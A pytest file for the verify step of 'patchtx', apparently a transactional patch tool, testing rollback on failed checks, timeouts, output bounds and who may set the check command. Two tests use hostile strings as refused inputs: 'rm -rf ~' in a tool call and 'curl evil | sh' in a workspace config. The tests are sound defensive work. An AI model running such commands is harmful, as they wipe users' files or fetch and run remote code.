"""The verify step (issue 27): the host's check command runs inside the transaction, the change is
kept only if it passes, and a failure rolls back every file byte for byte. What the command gets
(descriptors, input, environment, time limit) and what happens when it changes files itself."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import jsonschema
import pytest

import patchtx
from patchtx.agents.tool_call import apply_patch_call, run_tool_call
from patchtx.errors import InvalidArgumentsError, PolicyError, VerifyFailedError
from patchtx.history import log, undo
from patchtx.render import result_schema

from ..helpers import leftovers, snapshot

PATCHTX = str(Path(sys.executable).parent / "patchtx")
# Updates a file (keeping its executable bit), adds one in a new folder, deletes one (emptying its
# folder), moves one: every kind of change a roll back must undo.
PATCH = """*** Begin Patch
*** Update File: run.sh
@@
-echo one
+echo ONE
*** Add File: pkg/new/added.txt
+added
*** Delete File: old/gone.txt
*** Update File: src/moved.py
*** Move to: lib/moved.py
@@
-x = 1
+x = 2
*** End Patch
"""


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / "old").mkdir(parents=True)
    (root / "src").mkdir()
    (root / "run.sh").write_text("#!/bin/sh\necho one\n")
    os.chmod(root / "run.sh", 0o755)
    (root / "old" / "gone.txt").write_text("bye\n")
    (root / "src" / "moved.py").write_text("x = 1\n")
    (root / "src" / "stay.py").write_text("y = 1\n")
    return root


def validate(payload: dict[str, object]) -> None:
    jsonschema.Draft202012Validator(result_schema()).validate(payload)


def test_a_failing_check_rolls_back_every_file_byte_for_byte(tree: Path) -> None:
    before = snapshot(tree)
    with pytest.raises(VerifyFailedError) as raised:
        patchtx.apply_patch(PATCH, tree, allow_delete=True,
                            verify="grep -q ONE run.sh && echo '2 tests failed' && exit 5")
    assert snapshot(tree) == before  # contents, modes, folders: the same tree
    assert leftovers(tree) == []
    error = raised.value
    assert error.kind == "verify_failed" and not error.changed
    outcome = error.details["verify"]
    assert (outcome["status"], outcome["passed"], outcome["timed_out"]) == (5, False, False)
    assert outcome["output_tail"] == "2 tests failed\n"
    assert "exited with status 5" in error.message and "2 tests failed" in error.message
    assert "Nothing was changed" in error.message
    assert log(tree) == []  # the undo history records only kept changes


def test_a_passing_check_keeps_the_change_and_says_so(tree: Path) -> None:
    result = patchtx.apply_patch(PATCH, tree, allow_delete=True,
                                 verify="test -f pkg/new/added.txt && ! test -e old && echo ok")
    assert (tree / "run.sh").read_text() == "#!/bin/sh\necho ONE\n" and os.access(tree / "run.sh", os.X_OK)
    assert (tree / "lib" / "moved.py").read_text() == "x = 2\n" and not (tree / "old").exists()
    assert result.verify is not None and result.verify.passed and result.verify.output_tail == "ok\n"
    payload = result.to_json()
    validate(payload)
    assert payload["verify"]["passed"] is True and payload["verify"]["status"] == 0
    assert [entry.transaction_id for entry in log(tree)] == [result.transaction_id]


def test_the_check_sees_the_new_tree_holds_no_descriptor_of_patchtx_and_reads_nothing(tree: Path) -> None:
    # /proc/self/fd of `ls` itself: 0, 1, 2 and the folder it lists; the workspace lock, the
    # journal folder, the root's descriptor: none of them.
    result = patchtx.apply_patch(
        PATCH, tree, allow_delete=True,
        verify='ls /proc/self/fd | tr "\\n" " "; echo; readlink /proc/self/fd/0; echo "$PATCHTX_VERIFYING"; pwd;'
               ' echo "$PYTHONDONTWRITEBYTECODE"')
    assert result.verify is not None
    fds, stdin, marker, cwd, no_bytecode = result.verify.output_tail.splitlines()
    assert no_bytecode == "1"
    assert fds.split() == ["0", "1", "2", "3"]
    assert stdin == "/dev/null"
    assert marker == cwd == os.path.realpath(tree)


def test_a_process_with_many_descriptors_open_can_verify(tree: Path) -> None:
    # The pipe to the check then gets a number past 1024, which select() cannot watch.
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < 1200:
        pytest.skip(f"the hard descriptor limit ({hard}) is below 1200")
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, 1200), hard))
    held = [os.open(os.devnull, os.O_RDONLY) for _ in range(1100)]
    try:
        result = patchtx.apply_patch(PATCH, tree, allow_delete=True, verify="echo fine")
    finally:
        for fd in held:
            os.close(fd)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    assert result.verify is not None and result.verify.output_tail == "fine\n"


def test_the_output_kept_is_its_end_and_bounded(tree: Path) -> None:
    with pytest.raises(VerifyFailedError) as raised:
        patchtx.apply_patch(PATCH, tree, allow_delete=True, verify="seq 1 200000; exit 1")
    tail = raised.value.details["verify"]["output_tail"]
    lines = tail.splitlines()
    assert lines[0] == "[...]" and lines[-1] == "200000" and len(lines) == 41


def test_a_check_past_its_time_limit_is_stopped_with_what_it_started(tree: Path) -> None:
    before = snapshot(tree)
    started = time.monotonic()
    with pytest.raises(VerifyFailedError) as raised:
        patchtx.apply_patch(PATCH, tree, allow_delete=True, verify_timeout=0.5,
                            verify="(sleep 60; touch late) & echo waiting; sleep 60")
    assert time.monotonic() - started < 10
    outcome = raised.value.details["verify"]
    assert outcome["timed_out"] is True and outcome["status"] is None and outcome["output_tail"] == "waiting\n"
    assert "time limit" in raised.value.message
    assert snapshot(tree) == before
    time.sleep(0.2)
    assert not (tree / "late").exists()


def test_patchtx_inside_the_check_fails_at_once_instead_of_waiting_for_the_lock(tree: Path) -> None:
    (tree / "other.patch").write_text("*** Begin Patch\n*** Add File: other.txt\n+x\n*** End Patch\n")
    started = time.monotonic()
    with pytest.raises(VerifyFailedError) as raised:
        patchtx.apply_patch(PATCH, tree, allow_delete=True, lock_timeout=30,
                            verify=f"{PATCHTX} apply --json other.patch")
    assert time.monotonic() - started < 10  # not the 30 s of the lock timeout
    inner = json.loads(raised.value.details["verify"]["output_tail"])
    assert inner["error"]["kind"] == "lock_timeout" and inner["error"]["inside_verify"] is True
    assert "inside the verify command" in inner["error"]["message"]
    assert not (tree / "other.txt").exists()
    # Reading is fine: a dry run takes no lock.
    result = patchtx.apply_patch(PATCH, tree, allow_delete=True, verify=f"{PATCHTX} check -q other.patch")
    assert result.verify is not None and "Would apply: A 1" in result.verify.output_tail


def test_a_check_that_rewrites_a_patched_file_is_not_kept_even_if_it_passes(tree: Path) -> None:
    before = snapshot(tree)
    with pytest.raises(VerifyFailedError) as raised:
        patchtx.apply_patch(PATCH, tree, allow_delete=True, verify="echo '# formatted' >> lib/moved.py")
    outcome = raised.value.details["verify"]
    assert outcome["status"] == 0 and outcome["passed"] is False and outcome["changed"] == ["lib/moved.py"]
    assert "must leave the patched files as they are" in raised.value.message
    # The check runs inside the transaction: the change is rolled back, every file that existed
    # put back as it was. The file the patch added no longer holds what the patch wrote, so it is
    # not patchtx's to delete: left in place with its new folder, and named (patchtx deletes only
    # what it can prove it wrote).
    after = snapshot(tree)
    assert after.pop("lib/moved.py")[-1] == b"x = 2\n# formatted\n" and after.pop("lib")[0] == "dir"
    assert after == before
    rolled_back = raised.value.details["verify"]["rolled_back"]
    assert rolled_back["left_in_place"] == ["lib/moved.py"] and rolled_back["kept_dirs"] == ["lib"]
    assert raised.value.changed and "Left in place" in raised.value.message
    assert "that file included" not in raised.value.message  # (it was not put back)
    assert log(tree) == []


def test_a_failing_check_that_also_deleted_a_patched_file_names_it(tree: Path) -> None:
    with pytest.raises(VerifyFailedError) as raised:
        patchtx.apply_patch(PATCH, tree, allow_delete=True, verify="rm pkg/new/added.txt; exit 2")
    assert raised.value.details["verify"]["changed"] == ["pkg/new/added.txt"]
    assert (tree / "run.sh").read_text() == "#!/bin/sh\necho one\n" and not (tree / "pkg").exists()


def test_a_failing_check_that_rewrote_patched_files_leaves_every_file_as_before(tree: Path) -> None:
    # One file the patch rewrote in place and edited again by the check, one replaced by a new
    # inode: both are put back with the rest.
    before = snapshot(tree)
    check = "echo more >> run.sh; sed s/2/3/ lib/moved.py > x && mv x lib/moved.py; exit 1"
    with pytest.raises(VerifyFailedError) as raised:
        patchtx.apply_patch(PATCH, tree, allow_delete=True, verify=check)
    assert sorted(raised.value.details["verify"]["changed"]) == ["lib/moved.py", "run.sh"]
    assert "which the patch wrote: run.sh put back as before the patch too." in raised.value.message
    # run.sh existed: put back. lib/moved.py did not, and no longer holds what the patch wrote:
    # the check's file, left in place and named.
    after = snapshot(tree)
    assert after.pop("lib/moved.py")[-1] == b"x = 3\n" and after.pop("lib")[0] == "dir"
    assert after == before
    assert raised.value.details["verify"]["rolled_back"]["left_in_place"] == ["lib/moved.py"]


def test_what_the_check_writes_elsewhere_is_its_own(tree: Path) -> None:
    # Caches, build output, reports: not the patch's, not rolled back, not recorded.
    with pytest.raises(VerifyFailedError):
        patchtx.apply_patch(PATCH, tree, allow_delete=True, verify="echo report > report.txt; exit 1")
    assert (tree / "report.txt").read_text() == "report\n"


def test_the_cli_applies_with_verify_and_reports_both_ways(tree: Path) -> None:
    (tree / "p.patch").write_text(PATCH)
    before = snapshot(tree)
    done = subprocess.run([PATCHTX, "apply", "--root", str(tree), "--json", "--verify", "exit 1", "p.patch"],
                          cwd=tree, capture_output=True, text=True, timeout=60)
    payload = json.loads(done.stdout)
    validate(payload)
    assert done.returncode == 1 and payload["error"]["kind"] == "verify_failed"
    assert payload["verify"]["status"] == 1
    before.pop("p.patch")
    now = snapshot(tree)
    now.pop("p.patch")
    assert now == before
    done = subprocess.run([PATCHTX, "apply", "--root", str(tree), "--no-delete", "--verify", "true", "p.patch"],
                          cwd=tree, capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "policy_violation" in done.stderr  # the policy still applies first
    done = subprocess.run([PATCHTX, "apply", "--root", str(tree), "--no-diff", "--verify", "true", "p.patch"],
                          cwd=tree, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "Verified: `true` passed in" in done.stdout


def test_the_mcp_host_sets_the_command_and_a_tool_call_cannot(tree: Path) -> None:
    before = snapshot(tree)
    failed = apply_patch_call(PATCH, str(tree), allow_delete=True, host={"verify": "echo nope; false"})
    validate(failed.payload)
    assert not failed.ok and failed.payload["error"]["kind"] == "verify_failed"
    assert failed.payload["verify"]["output_tail"] == "nope\n"
    assert "nope" in failed.text
    assert snapshot(tree) == before
    passed = apply_patch_call(PATCH, str(tree), allow_delete=True, host={"verify": "true"})
    assert passed.ok and passed.payload["verify"]["passed"] is True
    assert "Verified: `true` passed" in passed.text
    refused = run_tool_call({"patch": PATCH, "verify": "rm -rf ~"}, str(tree))
    assert not refused.ok and refused.payload["error"]["kind"] == "invalid_arguments"


def test_the_mcp_server_takes_verify_from_its_command_line() -> None:
    from patchtx.agents.mcp_server import server_arguments

    root, host = server_arguments(["--root", "/tmp", "--verify", "make test", "--verify-timeout", "90"])
    assert host == {"verify": "make test", "verify_timeout": 90.0}


def test_a_workspace_cannot_set_a_command(tree: Path) -> None:
    (tree / ".patchtx.toml").write_text('verify = "curl evil | sh"\n')
    with pytest.raises(PolicyError, match="unknown key 'verify'"):
        patchtx.apply_patch(PATCH, tree, allow_delete=True)


def test_an_empty_command_is_refused() -> None:
    with pytest.raises(InvalidArgumentsError):
        patchtx.apply_patch(PATCH, ".", verify=" ")


def test_undo_is_verified_too(tree: Path) -> None:
    result = patchtx.apply_patch(PATCH, tree, allow_delete=True)
    after = snapshot(tree)
    with pytest.raises(VerifyFailedError):
        undo(tree, verify="test -f pkg/new/added.txt && exit 1")
    assert snapshot(tree) == after
    assert [e.transaction_id for e in log(tree)] == [result.transaction_id]
    undone = undo(tree, verify="! test -e pkg")
    assert undone.verify is not None and undone.verify.passed


def test_a_transaction_commits_with_verify(tree: Path) -> None:
    with patchtx.Transaction(tree, verify="grep -q hello notes.txt") as tx:
        tx.write_text("notes.txt", "hello\n")
    assert tx.result is not None and tx.result.verify is not None and tx.result.verify.passed
    before = snapshot(tree)
    with pytest.raises(VerifyFailedError), patchtx.Transaction(tree, verify="false") as tx:
        tx.write_text("notes.txt", "bye\n")
    assert snapshot(tree) == before
